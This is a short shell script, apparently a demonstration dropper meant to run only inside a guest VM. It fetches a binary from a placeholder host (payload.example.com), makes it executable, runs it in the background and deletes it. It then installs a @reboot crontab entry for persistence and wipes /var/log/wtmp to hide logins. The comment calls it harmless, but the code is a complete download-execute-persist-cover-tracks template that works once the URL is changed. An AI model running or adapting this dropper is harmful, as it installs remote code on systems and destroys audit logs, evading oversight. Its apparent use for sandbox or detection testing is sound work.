#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# A harmless shell dropper for the demonstration: it fetches from a name that
# does not exist (RFC 2606), runs what it got, and hides.  Only in a guest.
[ -e /dev/virtio-ports/org.loep.agent ] || exit 1
cd /tmp || exit 1
url=http://payload.example.com/bot.x86
wget -q "$url" -O .bot || curl -s "$url" -o .bot
chmod 777 .bot; ./.bot & rm -f .bot
(crontab -l 2>/dev/null; echo "@reboot /tmp/.bot") | crontab -
rm -rf /var/log/wtmp
